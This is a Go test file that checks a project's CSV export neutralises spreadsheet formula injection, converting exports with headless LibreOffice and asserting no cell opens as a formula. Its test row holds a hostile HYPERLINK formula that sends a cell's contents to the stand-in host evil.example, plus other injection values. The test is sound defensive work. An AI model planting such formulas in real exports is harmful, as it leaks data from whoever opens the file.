package sheet_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/xuri/excelize/v2"

	"shequ/internal/platform/sheet"
)

// hostileRow is what a stranger can put into an export: the audit trail keeps the
// name typed at a failed sign-in verbatim.
var hostileRow = []string{`=HYPERLINK("http://evil.example/?d="&B2,"点这里")`, "-12.5", "@SUM(B2:B9)", "+1+1", "大学路社区"}

// TestCSV_OpensInLibreOfficeWithFormulasAsText opens a CSV export the way a worker
// does, in a real spreadsheet: LibreOffice, headless, converts it to .xlsx, and no
// cell of it may be a formula, while a negative amount is still a number. The same
// row written without neutralising is converted too, to show the test can fail:
// there LibreOffice makes the formula. SHEQU_LIBREOFFICE=required (set in CI)
// turns a missing LibreOffice into a failure rather than a skip.
func TestCSV_OpensInLibreOfficeWithFormulasAsText(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		if os.Getenv("SHEQU_LIBREOFFICE") == "required" {
			t.Fatal("LibreOffice (soffice) is required: apt-get install libreoffice-calc-nogui")
		}
		t.Skip("no LibreOffice (soffice) here")
	}
	dir := t.TempDir()
	var safe bytes.Buffer
	w := sheet.NewCSV(&safe)
	for _, row := range [][]string{{"name", "amount", "a", "b", "c"}, hostileRow} {
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	var raw bytes.Buffer
	rw := csv.NewWriter(&raw)
	_ = rw.WriteAll([][]string{{"name", "amount", "a", "b", "c"}, hostileRow})

	safeBook := libreOfficeXLSX(t, soffice, dir, "safe.csv", safe.Bytes())
	for i, want := range hostileRow {
		cell, _ := excelize.CoordinatesToCellName(i+1, 2)
		if f, _ := safeBook.GetCellFormula("safe", cell); f != "" {
			t.Errorf("%s opened as the formula %q", cell, f)
		}
		v, _ := safeBook.GetCellValue("safe", cell)
		typ, _ := safeBook.GetCellType("safe", cell)
		switch want {
		case "-12.5":
			if v != want || typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
				t.Errorf("%s: the amount %q opened as %q of type %v, want a number", cell, want, v, typ)
			}
		case "大学路社区":
			if v != want {
				t.Errorf("%s opened as %q, want %q", cell, v, want)
			}
		default:
			if v != "'"+want && v != want {
				t.Errorf("%s opened as %q, want the text %q", cell, v, want)
			}
		}
	}

	rawBook := libreOfficeXLSX(t, soffice, dir, "raw.csv", raw.Bytes())
	if f, _ := rawBook.GetCellFormula("raw", "A2"); f == "" {
		t.Error("the row written as it is did not open as a formula: the test shows nothing")
	}
}

// libreOfficeXLSX converts the CSV data, saved as name in dir, to .xlsx with
// LibreOffice, reading it as UTF-8 with commas, and opens the result.
func libreOfficeXLSX(t *testing.T, soffice, dir, name string, data []byte) *excelize.File {
	t.Helper()
	in := filepath.Join(dir, name)
	if err := os.WriteFile(in, data, 0o600); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "out")
	cmd := exec.Command(soffice, "--headless", "--norestore", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"),
		"--convert-to", "xlsx", "--infilter=CSV:44,34,76,1", "--outdir", out, in)
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, b)
	}
	book, err := excelize.OpenFile(filepath.Join(out, name[:len(name)-len(".csv")]+".xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = book.Close() })
	return book
}
